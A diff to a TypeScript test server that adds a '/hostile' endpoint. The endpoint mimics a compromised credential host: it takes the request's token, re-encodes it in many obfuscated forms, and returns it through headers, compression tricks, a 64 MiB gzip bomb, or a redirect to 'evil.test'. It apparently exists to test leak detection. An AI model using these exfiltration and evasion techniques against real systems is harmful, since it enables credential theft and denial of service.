@@ -13,6 +13,12 @@
  *   /big?n=BYTES     n bytes of filler (benchmarks)
  *   /sse             three server-sent events 150 ms apart
  *   /ws              WebSocket upgrade (RFC 6455 handshake), then echoes raw bytes
+ *   /hostile?form=F&via=V  a compromised credential host: the token it was sent (Bearer or
+ *                    `token` credentials, Basic's password, or X-Api-Key) reflected in
+ *                    form F (see {@link hostileEncode}) and delivered the way V says
+ *                    (see {@link hostileAnswer}): in the body, a header, a redirect's
+ *                    Location, compressed under any field or none, in a header a proxy
+ *                    would quote in its 502
  *
  * Names in `wrongCert` are served a certificate for `impostor.invalid`, so a client that
  * checks the server's identity must refuse them.
@@ -22,7 +28,7 @@ import http from 'node:http';
 import https from 'node:https';
 import type { AddressInfo, Socket } from 'node:net';
 import tls from 'node:tls';
-import { gzipSync } from 'node:zlib';
+import zlib, { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
 import { writeFiller } from './filler.ts';
 import { makeTestCa, type TestCa } from './test-ca.ts';
 
@@ -61,6 +67,130 @@ async function leaf(ca: TestCa, name: string): Promise<tls.SecureContext> {
   return tls.createSecureContext({ cert: certPem, key: keyPem });
 }
 
+/** The token a request carried: Bearer / `token` credentials, Basic's password, or X-Api-Key. */
+function tokenOf(req: http.IncomingMessage): string {
+  const auth = req.headers.authorization ?? '';
+  const bearer = /^(?:bearer|token)\s+(\S+)/i.exec(auth);
+  if (bearer?.[1]) return bearer[1];
+  const basic = /^basic\s+(\S+)/i.exec(auth);
+  if (basic?.[1]) return Buffer.from(basic[1], 'base64').toString('utf8').split(':').slice(1).join(':');
+  return String(req.headers['x-api-key'] ?? '');
+}
+
+/**
+ * `value` in one of the forms a hostile upstream was seen to use. Wrapped forms embed a
+ * prefix of `pad` bytes so the line break falls at a different place in the value.
+ */
+export function hostileEncode(value: string, form: string, pad = 7): string {
+  const bytes = Buffer.from(value);
+  const hex = bytes.toString('hex');
+  const wrap = (s: string, width: number, eol: string) => s.replace(new RegExp(`(.{${width}})(?=.)`, 'g'), `$1${eol}`);
+  let flip = 0;
+  const mixed = (s: string) => s.replace(/[a-f]/g, (c) => (flip++ % 2 ? c.toUpperCase() : c));
+  const pct = [...bytes].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
+  const u = [...value].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
+  const forms: Record<string, () => string> = {
+    raw: () => value,
+    hex: () => hex,
+    HEX: () => hex.toUpperCase(),
+    hexMixed: () => mixed(hex),
+    pct: () => pct,
+    PCT: () => pct.toUpperCase(),
+    pctMixed: () => mixed(pct),
+    json: () => u,
+    JSON: () => u.replace(/[0-9a-f]{4}/g, (h) => h.toUpperCase()),
+    entDec: () => [...value].map((c) => `&#${c.charCodeAt(0)};`).join(''),
+    entHex: () => [...value].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join(''),
+    ENTHEX: () => [...value].map((c) => `&#X${c.charCodeAt(0).toString(16).toUpperCase()};`).join(''),
+    b64: () => bytes.toString('base64'),
+    b64url: () => bytes.toString('base64url'),
+    mime: () => wrap(Buffer.concat([Buffer.alloc(pad, 'm'), bytes]).toString('base64'), 76, '\r\n'),
+    pem: () => wrap(Buffer.concat([Buffer.alloc(pad, 'p'), bytes]).toString('base64'), 64, '\n'),
+    utf16le: () => Buffer.from(value, 'utf16le').toString('base64'),
+    utf16be: () => Buffer.from(value, 'utf16le').swap16().toString('base64'),
+  };
+  const f = forms[form];
+  if (!f) throw new Error(`unknown form ${form}`);
+  return f();
+}
+
+/** Writes a complete HTTP/1.1 response on the request's socket as raw bytes (head fields as given), then closes it. */
+function rawAnswer(req: http.IncomingMessage, status: string, fields: string[], body: Buffer): void {
+  req.socket.end(Buffer.concat([Buffer.from(`HTTP/1.1 ${status}\r\n${[...fields, 'Connection: close'].map((f) => `${f}\r\n`).join('')}\r\n`, 'latin1'), body]));
+}
+
+/** Chunked framing of `body` in one chunk (RFC 9112 section 7.1). */
+const chunked = (body: Buffer) => Buffer.concat([Buffer.from(`${body.length.toString(16)}\r\n`), body, Buffer.from('\r\n0\r\n\r\n')]);
+
+/**
+ * Delivers `text` the way `via` says, as a compromised upstream would:
+ * body | header (X-Reflect) | location (302) | ce-gzip | ce-identity-then-gzip (two
+ * Content-Encoding fields) | ce-list (`identity, gzip`) | ce-stacked (`deflate, br`) |
+ * ce-deflate | ce-br | ce-zstd | te-gzip (`Transfer-Encoding: gzip, chunked`) |
+ * sniff-gzip / sniff-zstd / sniff-zlib (compressed, no header) | bomb (gzip of 64 MiB
+ * of zeros with `text` at the end) | ce-quoted (an unknown coding whose name carries the
+ * text, which a proxy quotes in its 502) | chunked (split across chunks 20 ms apart).
+ */
+function hostileAnswer(req: http.IncomingMessage, res: http.ServerResponse, via: string, text: string): void {
+  const body = Buffer.from(`{"leak":"${text}"}\n`);
+  const type = 'Content-Type: application/json';
+  const z = zlib as unknown as Record<string, ((b: Buffer) => Buffer) | undefined>;
+  switch (via) {
+    case 'body':
+      res.writeHead(200, { 'Content-Type': 'application/json' }).end(body);
+      return;
+    case 'chunked': {
+      res.writeHead(200, { 'Content-Type': 'application/json' });
+      const mid = Math.floor(body.length / 2);
+      res.write(body.subarray(0, mid));
+      setTimeout(() => res.end(body.subarray(mid)), 20);
+      return;
+    }
+    case 'header':
+      res.writeHead(200, { 'X-Reflect': text.replace(/\r?\n/g, ''), 'Content-Length': '0' }).end();
+      return;
+    case 'location':
+      res.writeHead(302, { Location: `https://evil.test/callback?t=${text.replace(/\r?\n/g, '')}`, 'Content-Length': '0' }).end();
+      return;
+    case 'ce-gzip':
+      return rawAnswer(req, '200 OK', [type, 'Content-Encoding: gzip', `Content-Length: ${gzipSync(body).length}`], gzipSync(body));
+    case 'ce-identity-then-gzip':
+      return rawAnswer(req, '200 OK', [type, 'Content-Encoding: identity', 'Content-Encoding: gzip', `Content-Length: ${gzipSync(body).length}`], gzipSync(body));
+    case 'ce-list':
+      return rawAnswer(req, '200 OK', [type, 'Content-Encoding: identity, gzip', `Content-Length: ${gzipSync(body).length}`], gzipSync(body));
+    case 'ce-stacked': {
+      const enc = brotliCompressSync(deflateSync(body));
+      return rawAnswer(req, '200 OK', [type, 'Content-Encoding: deflate, br', `Content-Length: ${enc.length}`], enc);
+    }
+    case 'ce-deflate':
+      return rawAnswer(req, '200 OK', [type, 'Content-Encoding: deflate', `Content-Length: ${deflateSync(body).length}`], deflateSync(body));
+    case 'ce-br':
+      return rawAnswer(req, '200 OK', [type, 'Content-Encoding: br', `Content-Length: ${brotliCompressSync(body).length}`], brotliCompressSync(body));
+    case 'ce-zstd':
+    case 'sniff-zstd': {
+      const compress = z.zstdCompressSync;
+      if (!compress) throw new Error('this Node has no zstd');
+      const enc = compress(body);
+      return rawAnswer(req, '200 OK', [type, ...(via === 'ce-zstd' ? ['Content-Encoding: zstd'] : []), `Content-Length: ${enc.length}`], enc);
+    }
+    case 'te-gzip':
+      return rawAnswer(req, '200 OK', [type, 'Transfer-Encoding: gzip, chunked'], chunked(gzipSync(body)));
+    case 'sniff-gzip':
+      // Large enough to be streamed by a proxy (no Content-Length, chunked).
+      return rawAnswer(req, '200 OK', ['Content-Type: application/octet-stream', 'Transfer-Encoding: chunked'], chunked(gzipSync(Buffer.concat([body, Buffer.alloc(200_000, 'x')]))));
+    case 'sniff-zlib':
+      return rawAnswer(req, '200 OK', ['Content-Type: application/octet-stream', `Content-Length: ${deflateSync(body).length}`], deflateSync(body));
+    case 'bomb': {
+      const enc = gzipSync(Buffer.concat([Buffer.alloc(64 * 1024 * 1024), body]));
+      return rawAnswer(req, '200 OK', [type, 'Content-Encoding: gzip', `Content-Length: ${enc.length}`], enc);
+    }
+    case 'ce-quoted':
+      return rawAnswer(req, '200 OK', [type, `Content-Encoding: x-${'a'.repeat(30)}${text.replace(/\r?\n/g, '')}`, `Content-Length: ${body.length}`], body);
+    default:
+      res.writeHead(400).end(`unknown via ${via}`);
+  }
+}
+
 function handler(scheme: string, requests: RecordedRequest[]) {
   return (req: http.IncomingMessage, res: http.ServerResponse) => {
     const chunks: Buffer[] = [];
@@ -90,6 +220,9 @@ function handler(scheme: string, requests: RecordedRequest[]) {
           writeFiller(res, Number(url.searchParams.get('n') ?? '0'));
           return;
         }
+        case '/hostile':
+          hostileAnswer(req, res, url.searchParams.get('via') ?? 'body', hostileEncode(tokenOf(req), url.searchParams.get('form') ?? 'raw', Number(url.searchParams.get('pad') ?? '7')));
+          return;
         case '/gzip':
           res.writeHead(200, { 'Content-Type': 'text/plain', 'Content-Encoding': 'gzip' }).end(gzipSync(`gzipped for ${req.headers.authorization ?? 'nobody'}\n`));
           return;
